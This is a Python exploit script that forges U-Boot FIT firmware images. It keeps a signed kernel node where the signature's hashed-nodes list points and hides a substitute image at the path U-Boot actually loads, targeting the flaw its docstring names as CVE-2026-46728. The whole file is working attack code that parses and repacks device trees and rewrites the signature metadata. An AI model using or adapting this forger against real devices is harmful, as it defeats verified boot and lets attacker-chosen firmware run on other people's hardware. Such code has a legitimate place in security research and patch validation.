# SPDX-License-Identifier: BSD-3-Clause
"""Forges a FIT image out of a signed one: what was signed is still in it, where the signature's own list
of nodes says, and another image lies where U-Boot looks for it. U-Boot before the mending of
CVE-2026-46728 believes that list. A device tree's format: Devicetree Specification 0.4, chapter 5."""

import copy
import dataclasses
import hashlib
import struct

BEGIN_NODE, END_NODE, PROP, END = 1, 2, 3, 9
HEADER = struct.Struct(">10I")	# magic, sizes and offsets; a list of reserved memory, here empty, follows


@dataclasses.dataclass
class Node:
	"""Properties are (offset of the name, value): names and their places stay as they were signed."""
	name: str
	properties: list = dataclasses.field(default_factory=list)
	children: list = dataclasses.field(default_factory=list)

	def at(self, *path):
		node = self
		for name in path:
			node = next(c for c in node.children if c.name == name)
		return node

	def pack(self):
		padded = lambda b: b + bytes(-len(b) % 4)
		return b"".join([struct.pack(">I", BEGIN_NODE), padded(self.name.encode() + b"\0"),
				 *(struct.pack(">III", PROP, len(v), o) + padded(v)
				   for o, v in self.properties),
				 *(c.pack() for c in self.children), struct.pack(">I", END_NODE)])


def parse(blob):
	"""The tree of a blob, and its strings."""
	_, _, at, strings, _, _, _, _, size, _ = HEADER.unpack_from(blob)
	top = Node("")
	stack = [top]
	while stack:
		token, = struct.unpack_from(">I", blob, at)
		at += 4
		if token == BEGIN_NODE:
			end = blob.index(0, at)
			stack.append(Node(blob[at:end].decode()))
			stack[-2].children.append(stack[-1])
			at = (end + 4) & ~3
		elif token == PROP:
			length, name = struct.unpack_from(">II", blob, at)
			stack[-1].properties.append((name, blob[at + 8:at + 8 + length]))
			at = (at + 8 + length + 3) & ~3
		elif token in (END_NODE, END):
			stack.pop()
	return top.children[0], blob[strings:strings + size]


def forge(signed, image):
	"""A FIT of this image with the signature of the other."""
	root, strings = parse(signed)

	def put(node, name, value):
		place = (b"\0" + strings).index(b"\0" + name.encode() + b"\0")
		assert place in dict(node.properties), name
		node.properties = [(o, value if o == place else v) for o, v in node.properties]

	images = root.at("images")
	genuine = images.at("kernel-1")
	ours = copy.deepcopy(genuine)
	put(ours, "data", image)
	put(ours.at("hash-1"), "value", hashlib.sha256(image).digest())
	# A node of no name: its path is /images/, and that of the signed one /images//kernel-1. Behind it is
	# one more, or the end of the nameless node would count as signed.
	images.children = [ours, Node("", children=[genuine, Node("more")])]
	put(root.at("configurations", "conf-1", "signature-1"), "hashed-nodes",
	    b"/\0/configurations/conf-1\0/images//kernel-1\0/images//kernel-1/hash-1\0")
	body = root.pack() + struct.pack(">I", END)
	start = HEADER.size + 16
	return HEADER.pack(0xd00dfeed, start + len(body) + len(strings), start, start + len(body),
			   HEADER.size, 17, 16, 0, len(strings), len(body)) + bytes(16) + body + strings
